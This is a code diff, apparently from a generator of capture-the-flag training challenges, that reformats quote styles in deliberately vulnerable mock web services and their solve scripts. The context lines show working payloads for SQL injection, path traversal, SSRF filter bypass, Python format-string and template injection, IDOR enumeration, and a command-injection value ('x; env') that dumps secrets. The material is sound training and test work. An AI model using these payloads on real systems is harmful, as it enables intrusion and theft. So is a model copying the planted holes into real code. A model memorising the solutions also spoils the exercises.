@@ -72,7 +72,7 @@ flag(get("/login", data))
 
 def sqli_union(ctx: Ctx) -> Spec:
     table = "secret_" + ctx.hexword(4)
-    service = f'''
+    service = f"""
 import sqlite3
 DB = sqlite3.connect(":memory:", check_same_thread=False)
 DB.execute("CREATE TABLE products (id INTEGER, name TEXT, price TEXT)")
@@ -91,7 +91,7 @@ def app(req):
     return 200, "\\n".join(f"{{n}}: {{p}}" for n, p in rows), {{}}
 
 rangekit.serve_http(__PORT__, app)
-'''
+"""
     solve = """
 q = "0 UNION SELECT name, sql FROM sqlite_master"
 tables = get("/product?id=" + urllib.parse.quote(q))
@@ -110,7 +110,7 @@ flag(get("/product?id=" + urllib.parse.quote(f"0 UNION SELECT k, v FROM {table}"
 
 
 def sqli_blind(ctx: Ctx) -> Spec:
-    service = '''
+    service = """
 import sqlite3
 DB = sqlite3.connect(":memory:", check_same_thread=False)
 DB.execute("CREATE TABLE users (name TEXT, token TEXT)")
@@ -128,7 +128,7 @@ def app(req):
     return 200, "yes" if row else "no", {}
 
 rangekit.serve_http(__PORT__, app)
-'''
+"""
     solve = r"""
 alphabet = "0123456789abcdef{}detn"
 known = "detente{"
@@ -153,19 +153,21 @@ print(known)
     )  # fmt: skip
 
 
-_VFS = '''
+_VFS = """
 VFS = {
     "/srv/www/index.html": "<h1>files</h1> try /download?file=report.txt",
     "/srv/www/report.txt": "quarterly report: all good",
     "/etc/passwd": "root:x:0:0:root:/root:/bin/bash\\n",
     "/srv/secret/__SECRET__": "flag: " + FLAG,
 }
-'''
+"""
 
 
 def path_traversal(ctx: Ctx) -> Spec:
     secret = "flag-" + ctx.hexword(6) + ".txt"
-    service = _VFS.replace("__SECRET__", secret) + '''
+    service = (
+        _VFS.replace("__SECRET__", secret)
+        + """
 import posixpath
 def app(req):
     if req.path == "/":
@@ -181,7 +183,8 @@ def app(req):
     return 200, VFS[path], {}
 
 rangekit.serve_http(__PORT__, app)
-'''
+"""
+    )
     solve = """
 listing = get("/download?file=" + urllib.parse.quote("../secret/index"))
 name = listing.strip().splitlines()[0]
@@ -200,7 +203,9 @@ flag(get("/download?file=" + urllib.parse.quote("../.." + name)))
 
 def path_traversal_filter(ctx: Ctx) -> Spec:
     secret = "key-" + ctx.hexword(6) + ".txt"
-    service = _VFS.replace("__SECRET__", secret) + '''
+    service = (
+        _VFS.replace("__SECRET__", secret)
+        + """
 import posixpath
 def app(req):
     if req.path == "/":
@@ -214,7 +219,8 @@ def app(req):
     return (200, VFS[path], {}) if path in VFS else (404, "no such file: " + path, {})
 
 rangekit.serve_http(__PORT__, app)
-'''
+"""
+    )
     solve = """
 listing = get("/doc?name=" + urllib.parse.quote("....//secret/index"))
 name = listing.strip().splitlines()[0]
@@ -231,7 +237,7 @@ flag(get("/doc?name=" + urllib.parse.quote("....//....//" + name.lstrip("/"))))
     )  # fmt: skip
 
 
-_FETCH = '''
+_FETCH = """
 import urllib.parse
 INTERNAL = {"http://__HOST__/flag": "internal flag: " + FLAG, "http://__HOST__/": "admin api: /flag"}
 PUBLIC = {"http://www.example.test/": "hello from the public web"}
@@ -240,12 +246,14 @@ def fetch(url):
     parts = urllib.parse.urlsplit(url)
     key = f"{parts.scheme}://{parts.hostname}{parts.path or '/'}"
     return INTERNAL.get(key) or PUBLIC.get(key) or "could not fetch " + key
-'''
+"""
 
 
 def ssrf(ctx: Ctx) -> Spec:
     host = f"admin-{ctx.hexword(4)}.internal"
-    service = _FETCH.replace("__HOST__", host) + f'''
+    service = (
+        _FETCH.replace("__HOST__", host)
+        + f"""
 def app(req):
     if req.path == "/":
         return 200, "link preview: /preview?url=http://www.example.test/  (staff: the admin api is at http://{host}/)", {{}}
@@ -254,7 +262,8 @@ def app(req):
     return 404, "not found", {{}}
 
 rangekit.serve_http(__PORT__, app)
-'''
+"""
+    )
     solve = f"""
 flag(get("/preview?url=" + urllib.parse.quote("http://{host}/flag")))
 """
@@ -271,7 +280,9 @@ flag(get("/preview?url=" + urllib.parse.quote("http://{host}/flag")))
 
 def ssrf_filter(ctx: Ctx) -> Spec:
     host = f"vault-{ctx.hexword(4)}.internal"
-    service = _FETCH.replace("__HOST__", host) + f'''
+    service = (
+        _FETCH.replace("__HOST__", host)
+        + f"""
 def app(req):
     if req.path == "/":
         return 200, "image proxy: /proxy?url=http://www.example.test/ (only www.example.test is allowed; the vault at http://{host}/ is off limits)", {{}}
@@ -283,7 +294,8 @@ def app(req):
     return 404, "not found", {{}}
 
 rangekit.serve_http(__PORT__, app)
-'''
+"""
+    )
     solve = f"""
 flag(get("/proxy?url=" + urllib.parse.quote("http://www.example.test@{host}/flag")))
 """
@@ -299,7 +311,7 @@ flag(get("/proxy?url=" + urllib.parse.quote("http://www.example.test@{host}/flag
 
 
 def format_injection(ctx: Ctx) -> Spec:
-    service = '''
+    service = """
 class Visitor:
     def __init__(self, name):
         self.name = name
@@ -314,7 +326,7 @@ def app(req):
         return 400, "bad template: " + str(exc), {}
 
 rangekit.serve_http(__PORT__, app)
-'''
+"""
     solve = """
 t = "{visitor.__init__.__globals__[FLAG]}"
 flag(get("/greet?template=" + urllib.parse.quote(t)))
@@ -331,7 +343,7 @@ flag(get("/greet?template=" + urllib.parse.quote(t)))
 
 
 def template_eval(ctx: Ctx) -> Spec:
-    service = '''
+    service = """
 import re
 class Config:
     def __init__(self):
@@ -355,7 +367,7 @@ def app(req):
     return 200, render(req.arg("page")), {}
 
 rangekit.serve_http(__PORT__, app)
-'''
+"""
     solve = """
 flag(get("/preview?page=" + urllib.parse.quote("{{config.__dict__}}")))
 """
@@ -373,7 +385,7 @@ flag(get("/preview?page=" + urllib.parse.quote("{{config.__dict__}}")))
 def idor(ctx: Ctx) -> Spec:
     mine = 100 + ctx.rng.randrange(800)
     theirs = ctx.rng.randrange(1, 50)
-    service = f'''
+    service = f"""
 NOTES = {{ {mine}: ("guest", "my shopping list"), {theirs}: ("admin", "launch code " + FLAG) }}
 def app(req):
     if req.path == "/":
@@ -387,7 +399,7 @@ def app(req):
     return 404, "not found", {{}}
 
 rangekit.serve_http(__PORT__, app)
-'''
+"""
     solve = """
 for i in range(0, 1000):
     text = get(f"/api/notes/{i}")
@@ -465,7 +477,7 @@ flag(get("/admin", headers={"Authorization": "Bearer " + forged}))
 
 
 def cmd_injection(ctx: Ctx) -> Spec:
-    service = '''
+    service = """
 import os, subprocess
 def app(req):
     if req.path != "/ping":
@@ -475,7 +487,7 @@ def app(req):
                          env={"PATH": "/usr/bin:/bin", "DIAG_TOKEN": FLAG})
     return 200, out.stdout + out.stderr, {}
 rangekit.serve_http(__PORT__, app)
-'''
+"""
     solve = """
 flag(get("/ping?host=" + urllib.parse.quote("x; env")))
 """
